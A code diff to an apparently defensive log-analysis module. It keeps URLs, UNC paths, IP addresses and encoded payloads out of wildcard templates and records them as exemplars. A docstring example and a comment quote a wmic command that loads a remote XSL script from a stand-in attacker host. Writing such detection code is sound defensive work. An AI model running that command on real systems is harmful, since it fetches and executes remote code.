@@ -9,8 +9,9 @@ from __future__ import annotations
 import ipaddress
 import math
 import re
-from collections.abc import Sequence
+from collections.abc import Mapping, Sequence
 from concurrent.futures import Executor
+from types import MappingProxyType
 from typing import TYPE_CHECKING, Any, Final
 
 import numpy as np
@@ -32,6 +33,7 @@ __all__ = [
     "IOC_COLUMNS",
     "NOISE_IP_TYPES",
     "PATTERN_COLUMNS",
+    "PROTECTED_SPANS",
     "SUSPICION_ORDER",
     "decode_events",
     "extract_iocs",
@@ -39,6 +41,7 @@ __all__ = [
     "geolocate_iocs",
     "identifier_hash_mask",
     "noise_address_mask",
+    "protect_spans",
     "public_or_named",
     "rank_iocs",
     "summarise_iocs",
@@ -94,7 +97,50 @@ PATTERN_COLUMNS: Final[tuple[str, ...]] = (
     "example_file",
     "example_row",
     "example_text",
+    "example_host",
+    "example_user",
+    "example_parent",
+    "exemplars",
 )
+
+#: What a pattern's wildcard never swallows: each match becomes a named placeholder before
+#: template mining, so a line with a URL, a UNC path, an IP address or an encoded payload
+#: never shares a template with one that has a plain word there (``wmic process
+#: /FORMAT:list`` and ``/FORMAT:https://.../x.xsl`` stay two patterns), and the values are
+#: listed as the pattern's ``exemplars``.
+PROTECTED_SPANS: Final[Mapping[str, str]] = MappingProxyType(
+    {
+        "url": r"\b[a-zA-Z][a-zA-Z0-9+.-]{1,15}://[^\s\"'<>]+",
+        "unc": r"(?<![\w\\])\\\\[A-Za-z0-9._$-]+\\[^\s\"'<>|]*",
+        "ip": r"(?<![\w.:])\d{1,3}(?:\.\d{1,3}){3}(?::\d{1,5})?(?![\w.])"
+        r"|(?<![\w:])(?:[0-9a-fA-F]{1,4}:){3,7}[0-9a-fA-F]{1,4}(?![\w:])",
+        "payload": r"(?<![A-Za-z0-9+/])(?=[A-Za-z0-9+/]*[0-9+/])(?=[A-Za-z0-9+/]*[a-z])"
+        r"(?=[A-Za-z0-9+/]*[A-Z])[A-Za-z0-9+/]{40,}={0,2}",
+    }
+)
+_PROTECTED: Final = re.compile(
+    "|".join(f"(?P<{name}>{pattern})" for name, pattern in PROTECTED_SPANS.items())
+)
+_MAX_EXEMPLARS: Final = 5
+_EXEMPLAR_CHARS: Final = 200
+
+
+def protect_spans(line: str) -> tuple[str, tuple[str, ...]]:
+    """Replace the :data:`PROTECTED_SPANS` of ``line`` with ``<url>``, ``<unc>``, ``<ip>``
+    or ``<payload>``; return the new line and the values replaced.
+
+    Examples:
+        >>> protect_spans("wmic process get /FORMAT:https://evil.example/x.xsl")
+        ('wmic process get /FORMAT:<url>', ('https://evil.example/x.xsl',))
+    """
+    found: list[str] = []
+
+    def swap(match: re.Match[str]) -> str:
+        found.append(match.group(0))
+        return f"<{match.lastgroup}>"
+
+    return _PROTECTED.sub(swap, line), tuple(found)
+
 
 #: Location columns :func:`geolocate_iocs` adds.
 GEO_COLUMNS: Final[tuple[str, ...]] = (
@@ -542,6 +588,7 @@ def find_patterns(
     executor: Executor | None = None,
     rare_min_events: int = _defaults.RARE_MIN_EVENTS,
     rare_share: float = _defaults.RARE_SHARE,
+    host_column: str | None = None,
 ) -> tuple[pd.DataFrame, pd.Series[Any]]:
     """Group the events into patterns (templates of their text) and rank the rare ones.
 
@@ -557,6 +604,10 @@ def find_patterns(
         executor: where the masking of distinct lines runs.
         rare_min_events: see above.
         rare_share: see above.
+        host_column: the host column (the example's host in ``example_host``).
+
+    URLs, UNC paths, IP addresses and encoded payloads are never swallowed by a wildcard
+    (see :data:`PROTECTED_SPANS`); their values are listed in ``exemplars``.
 
     Returns:
         ``(patterns, labels)``: one row per pattern with the columns of
@@ -569,7 +620,7 @@ def find_patterns(
         ...                               + ["whoami /all"]})
         >>> patterns, labels = find_patterns(events, ["cmd"], rare_min_events=1)
         >>> patterns[["template", "events", "rare"]].values.tolist()
-        [['whoami /all', 1, True], ['ping -n <*> <*>', 3, False]]
+        [['whoami /all', 1, True], ['ping -n <*> <ip>', 3, False]]
     """
     text = pd.Series("", index=frame.index, dtype=object)
     for column in reversed(list(columns)):
@@ -581,9 +632,17 @@ def find_patterns(
     if lines.empty:
         empty = pd.DataFrame({name: pd.Series(dtype=object) for name in PATTERN_COLUMNS})
         return empty, labels
-    groups = group_patterns(lines, executor=executor)
-    labels.loc[lines.index] = groups.labels.to_numpy()
-    work = pd.DataFrame({"pattern_id": groups.labels.to_numpy(), "src_index": lines.index})
+    codes, distinct = pd.factorize(lines)
+    protected = [protect_spans(str(line)) for line in distinct]
+    masked = np.asarray([p[0] for p in protected], dtype=object)
+    grouped_distinct = group_patterns(
+        pd.Series(masked[codes], index=lines.index), executor=executor
+    )
+    groups_labels = grouped_distinct.labels.to_numpy()
+    distinct_labels = np.zeros(len(distinct), dtype=np.int64)
+    distinct_labels[codes] = groups_labels
+    labels.loc[lines.index] = groups_labels
+    work = pd.DataFrame({"pattern_id": groups_labels, "src_index": lines.index})
     if time_column is not None and time_column in frame.columns:
         work["time"] = frame.loc[lines.index, time_column].to_numpy()
     else:
@@ -596,8 +655,16 @@ def find_patterns(
         last_seen=("time", "max"),
     ).reset_index()
     table["template"] = pd.Series(
-        [groups.templates[i] for i in table["pattern_id"]], index=table.index, dtype=object
+        [grouped_distinct.templates[i] for i in table["pattern_id"]],
+        index=table.index,
+        dtype=object,
     )
+    exemplars: dict[int, list[str]] = {}
+    for label, (_, spans) in zip(distinct_labels.tolist(), protected, strict=True):
+        kept = exemplars.setdefault(int(label), [])
+        for value in spans:
+            if len(kept) < _MAX_EXEMPLARS and value[:_EXEMPLAR_CHARS] not in kept:
+                kept.append(value[:_EXEMPLAR_CHARS])
     threshold = max(rare_min_events, math.floor(rare_share * len(lines)))
     table["rare"] = table["events"] <= threshold
     table = table.sort_values(["events", "first_seen", "pattern_id"], kind="stable")
@@ -609,6 +676,13 @@ def find_patterns(
     table["example_text"] = pd.Series(
         [_preview(text.at[i]) for i in table["example_index"]], index=table.index, dtype=object
     )
+    from asisdk.pipeline._findings import event_fields
+
+    examples = event_fields(frame.loc[table["example_index"].to_numpy()], host_column=host_column)
+    table["example_host"] = examples["host"].to_numpy()
+    table["example_user"] = examples["user"].to_numpy()
+    table["example_parent"] = examples["parent_image"].to_numpy()
+    table["exemplars"] = ["\n".join(exemplars.get(int(i), [])) for i in table["pattern_id"]]
     return table.reset_index(drop=True)[list(PATTERN_COLUMNS)], labels
 
 
